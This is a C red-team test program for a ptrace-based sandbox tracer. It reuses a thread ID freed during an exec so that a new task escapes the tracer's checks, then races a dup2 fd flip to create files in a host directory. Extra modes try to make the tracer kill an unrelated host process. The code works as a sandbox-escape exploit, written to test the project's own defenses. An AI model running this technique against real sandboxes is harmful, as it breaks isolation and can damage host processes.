// tidreuse: a new task of the tree gets the tid of a thread whose execve
// is going through, before the tracer has seen that exec (stale task
// records, tracer/stale.go), and uses its being unknown to the tracer.
//
//   tidreuse EXE SBXDIR HOSTDIR ROUNDS [firststop]
//   tidreuse EXE killhost
//   tidreuse hostspawn SECONDS
//
// A forked process G makes its memory large (so that its exec takes a
// while to free it) and starts a thread T. The pid counter is moved, by
// forking and reaping short-lived children, until the next pid handed out
// is T's tid; T then execs EXE (allowed). de_thread frees T's tid before
// the exec is reported, and the main process at once clones a child with
// CLONE_VM|CLONE_FILES, which gets that tid. The child flips fd 100
// between SBXDIR and HOSTDIR with dup2 (not a checked call) while the
// main process calls openat(100, "escN", O_CREAT|O_EXCL) ROUNDS times: a
// tracer that keeps the child frozen while it checks each openat lets
// none reach HOSTDIR. Prints
//   result: tidreuse reused=yes|no created=N denied=D outside=M
// where outside counts HOSTDIR's escN files (the test lists HOSTDIR
// itself). Up to 5 attempts are made at getting the tid reused.
//
// firststop (a second red team): the new task's first stop is to come in
// while a freeze of another process's call is under way, so that the
// freeze, not the tracer's loop, reaps it. A helper process H, on CPU 1,
// waits on a pipe and then makes 200 checked openat(100, O_CREAT) calls,
// each a freeze; the main process, on CPU 0, wakes it just before the
// clone, and that clone (of a process with 512 MiB populated, without
// CLONE_VM) copies page tables long enough for a freeze to catch it. G's
// memory is 1 GiB, so that its exec event comes well after the freeze.
//
// killhost (the same red team): once T's tid is free, the main process
// waits for a process outside the tree to get it (hostspawn, run beside
// the tree, forks a child every millisecond) and exits at once, before
// G's exec event: tracecell then kills what is left of the tree, and
// must not kill that host process under the tid it still has for T.
// (A tracer that freezes the tree through a thread's exec, as
// tracer/execrun.go does, lets the main process run again only after the
// exec; G has 256 MiB here, enough for a tracer that does not.)
// Prints "result: killhost tid=T taken=yes|no".
// hostspawn forks a child that sleeps 3 s every 5 ms for SECONDS (a fork
// between the counter's move and T's exec would take the tid first)
// and prints "HOST child PID killed by signal N" for any killed.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

struct shared {
	volatile int tid;  // T's tid, written by T
	volatile int go;   // 1: T execs; 2: the flipper stops
};
static struct shared *sh;
static const char *exe;
static int sbxfd, hostfd;
static int hpipe[2];

static void pin(int cpu) {
	cpu_set_t cs;
	CPU_ZERO(&cs);
	CPU_SET(cpu, &cs);
	sched_setaffinity(0, sizeof cs, &cs); // one CPU: the race is only less likely
}

// freezer is H: 200 checked creates once woken.
static void freezer(void) {
	pin(1);
	char c;
	if (read(hpipe[0], &c, 1) != 1)
		_exit(0);
	for (int i = 0; i < 200; i++) {
		char name[32];
		snprintf(name, sizeof name, "h%d", i);
		int fd = openat(100, name, O_CREAT | O_WRONLY | O_EXCL, 0644);
		if (fd >= 0)
			close(fd);
	}
	_exit(0);
}

static int alive(int tid) {
	char p[64];
	snprintf(p, sizeof p, "/proc/%d", tid);
	return access(p, F_OK) == 0;
}

// in_group reports whether tid is a thread of process g.
static int in_group(int g, int tid) {
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/task/%d", g, tid);
	return access(p, F_OK) == 0;
}

static void *execer(void *arg) {
	(void)arg;
	sh->tid = (int)syscall(SYS_gettid);
	while (sh->go == 0)
		;
	char *argv[] = {(char *)exe, NULL};
	execv(exe, argv);
	_exit(99);
}

static int flipper(void *arg) {
	(void)arg;
	while (sh->go != 2) {
		dup2(hostfd, 100);
		for (volatile int i = 0; i < 100; i++)
			;
		dup2(sbxfd, 100);
		for (volatile int i = 0; i < 100; i++)
			;
	}
	_exit(0);
}

// advance forks and reaps children until the next pid is target: every pid
// between the last one handed out and target is taken. 0 when a fork got
// target itself or the counter went past it.
static int advance(int target) {
	int last = 0;
	for (long n = 0; n < 1L << 22; n++) {
		if (last > 0 && last < target) {
			int q = last + 1;
			while (q < target && alive(q))
				q++;
			if (q == target)
				return 1;
		}
		pid_t p = fork();
		if (p == 0)
			_exit(0);
		if (p < 0)
			return 0;
		waitpid(p, NULL, 0);
		if (p == target)
			return 0;
		last = p;
	}
	return 0;
}

// start_g forks G, of mem bytes of memory, with its thread T (execer),
// and moves the pid counter so that the next pid handed out is T's tid,
// put in *t. It returns G, or -1 (G killed) when the counter went past.
static pid_t start_g(size_t mem, int *t) {
	sh->tid = 0;
	sh->go = 0;
	pid_t g = fork();
	if (g == 0) {
		mmap(NULL, mem, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
		pthread_t th;
		pthread_create(&th, NULL, execer, NULL);
		for (;;)
			pause();
	}
	while (sh->tid == 0)
		;
	*t = sh->tid;
	if (!advance(*t)) {
		kill(g, SIGKILL);
		waitpid(g, NULL, 0);
		return -1;
	}
	return g;
}

// hostspawn is the busy host process beside the tree (killhost).
static int hostspawn(int secs) {
	time_t end = time(NULL) + secs;
	int st;
	pid_t w;
	while (time(NULL) < end) {
		pid_t p = fork();
		if (p == 0) {
			sleep(3);
			_exit(0);
		}
		usleep(5000);
		while ((w = waitpid(-1, &st, WNOHANG)) > 0)
			if (WIFSIGNALED(st))
				printf("HOST child %d killed by signal %d\n", w, WTERMSIG(st));
	}
	while ((w = waitpid(-1, &st, 0)) > 0)
		if (WIFSIGNALED(st))
			printf("HOST child %d killed by signal %d\n", w, WTERMSIG(st));
	return 0;
}

// killhost exits as soon as a process outside the tree has T's freed tid.
static int killhost(void) {
	for (int attempt = 0; attempt < 10; attempt++) {
		int t;
		pid_t g = start_g(256UL << 20, &t);
		if (g < 0)
			continue;
		sh->go = 1;
		// T's tid leaves G when its exec goes through. A tracer that
		// keeps the tree frozen through the exec (tracer/execrun.go)
		// lets this process run again only after it, when a host
		// process may have the tid already.
		while (in_group(g, t))
			;
		for (long i = 0; i < 2000000 && !alive(t); i++)
			;
		if (alive(t)) {
			printf("result: killhost tid=%d taken=yes\n", t);
			_exit(0); // G is still in its exec: tracecell kills the rest
		}
		kill(g, SIGKILL);
		waitpid(g, NULL, 0);
	}
	printf("result: killhost tid=0 taken=no\n");
	return 0;
}

int main(int argc, char **argv) {
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && !strcmp(argv[1], "hostspawn"))
		return hostspawn(atoi(argv[2]));
	sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (argc == 3 && !strcmp(argv[2], "killhost")) {
		exe = argv[1];
		return killhost();
	}
	int firststop = argc == 6 && !strcmp(argv[5], "firststop");
	if (argc != 5 && !firststop) {
		fprintf(stderr, "usage: tidreuse EXE SBXDIR HOSTDIR ROUNDS [firststop]\n");
		return 2;
	}
	exe = argv[1];
	int rounds = atoi(argv[4]);
	char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	sbxfd = open(argv[2], O_RDONLY | O_DIRECTORY);
	hostfd = open(argv[3], O_RDONLY | O_DIRECTORY);
	if (sh == MAP_FAILED || stack == MAP_FAILED || sbxfd < 0 || hostfd < 0) {
		perror("tidreuse: set-up");
		return 2;
	}
	dup2(sbxfd, 100);
	pid_t h = -1;
	if (firststop) {
		if (pipe(hpipe) != 0) {
			perror("tidreuse: pipe");
			return 2;
		}
		pin(0);
		h = fork();
		if (h == 0)
			freezer();
	}
	size_t gsize = (firststop ? 1024UL : 256UL) << 20, bigsize = 512UL << 20;
	int reused = 0, child = -1;
	for (int attempt = 0; attempt < 5 && !reused; attempt++) {
		int t;
		pid_t g = start_g(gsize, &t);
		if (g < 0)
			continue;
		char *big = NULL;
		if (firststop)
			big = mmap(NULL, bigsize, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
		sh->go = 1;
		while (alive(t))
			;
		if (firststop) {
			if (write(hpipe[1], "x", 1) != 1)
				perror("tidreuse: wake");
			child = clone(flipper, stack + (1 << 16), CLONE_FILES | SIGCHLD, NULL);
			munmap(big, bigsize);
		} else
			child = clone(flipper, stack + (1 << 16), CLONE_VM | CLONE_FILES | SIGCHLD, NULL);
		waitpid(g, NULL, 0);
		if (child == t) {
			reused = 1;
			break;
		}
		sh->go = 2;
		waitpid(child, NULL, 0);
		sh->go = 0;
	}
	if (reused && firststop)
		sleep(3); // G's exec event and H's freezes are over
	int created = 0, denied = 0, outside = 0;
	if (reused) {
		for (int i = 0; i < rounds; i++) {
			char name[32];
			snprintf(name, sizeof name, "esc%d", i);
			int fd = openat(100, name, O_CREAT | O_WRONLY | O_EXCL, 0644);
			if (fd >= 0) {
				created++;
				close(fd);
			} else if (errno == EACCES || errno == EPERM)
				denied++;
		}
		for (int i = 0; i < rounds; i++) {
			char name[32];
			snprintf(name, sizeof name, "esc%d", i);
			if (faccessat(hostfd, name, F_OK, 0) == 0)
				outside++;
		}
		sh->go = 2;
		waitpid(child, NULL, 0);
	}
	if (h > 0) {
		kill(h, SIGKILL);
		waitpid(h, NULL, 0);
	}
	printf("result: tidreuse reused=%s created=%d denied=%d outside=%d\n", reused ? "yes" : "no", created, denied, outside);
	return 0;
}
